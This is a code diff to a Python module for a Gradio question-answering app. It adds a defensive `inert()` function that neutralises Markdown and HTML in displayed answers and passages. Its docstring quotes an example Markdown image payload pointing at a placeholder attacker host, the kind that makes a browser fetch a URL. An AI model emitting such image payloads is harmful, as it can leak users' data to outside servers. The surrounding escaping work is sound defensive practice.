@@ -15,6 +15,10 @@ from typing import Any
 _MARKER = re.compile(r"\[(\d{1,3})\]")  # an answer's citation marker
 _BOLD = re.compile(r"\*\*([^*\n]+?)\*\*")  # Markdown bold, as the extractive engine marks a short answer
 _HTTP_URL = re.compile(r"https?://[^\x00-\x20\x7f]+", re.IGNORECASE)
+# What makes Markdown link, fetch or format code: "[" "]" (links, "![" images, "[1]: url" definitions), "!", "\\"
+# (escapes), "`" (code spans, where entities show raw), "$" (LaTeX), "@" (e-mail autolinks), and the ":" of "://" or
+# the "." of "www." (bare-URL autolinks). Bold and italics stay: the extractive engine writes its short answer in bold.
+_MARKDOWN_ACTIVE = re.compile(r"[\[\]!\\`$@]|:(?=//)|(?<=www)\.", re.IGNORECASE)
 CONTEXT_CHARS = 240  # of the passage shown either side of the supporting quote
 # Light styling that survives Jupyter's sanitizer (inline styles on plain tags) and suits light and dark themes.
 QUOTE_STYLE = "margin:.3em 0 0 0;padding-left:.8em;border-left:3px solid #8884;opacity:.9"
@@ -24,6 +28,17 @@ NOTE_STYLE = "margin:.4em 0;padding:.3em .6em;border-left:4px solid #d9a400;back
 def escape(text: Any) -> str:
     """Any value as HTML text, safe in element content and in quoted attributes."""
     return html.escape(str(text), quote=True)
+
+
+def inert(text: Any) -> str:
+    """Any value as text that stays text in HTML and in Markdown: nothing in it can become a tag, an image or a link.
+
+    Gradio renders chat messages and ``gr.Markdown`` as Markdown with HTML; an answer, a notice quoting an article,
+    or a title saying ``![x](http://attacker/?q=…)`` would otherwise make the reader's browser fetch that URL. The
+    characters that make Markdown act are written as numeric character references, which a renderer shows as the
+    characters themselves but never reads as syntax.
+    """
+    return _MARKDOWN_ACTIVE.sub(lambda m: f"&#{ord(m[0])};", html.escape(str(text), quote=False))
 
 
 def is_web_link(url: str) -> bool:
@@ -65,12 +80,13 @@ def highlight(passage: str, quote: str, context: int = CONTEXT_CHARS) -> str:
 
 
 def marked(passage: str, quote: str) -> str:
-    """The whole passage as HTML, with its supporting ``quote`` in ``<mark>`` where it is found."""
+    """The whole passage as HTML, with its supporting ``quote`` in ``<mark>`` where it is found; :func:`inert`, as the
+    app shows it in a chat message, which is Markdown."""
     match = _found(passage, quote)
     if match is None:
-        return escape(passage)
+        return inert(passage)
     before, after = passage[: match.start()], passage[match.end() :]
-    return f"{escape(before)}<mark>{escape(match.group(0))}</mark>{escape(after)}"
+    return f"{inert(before)}<mark>{inert(match.group(0))}</mark>{inert(after)}"
 
 
 def link_markers(text: str, numbers: set[int], anchor: str) -> str:
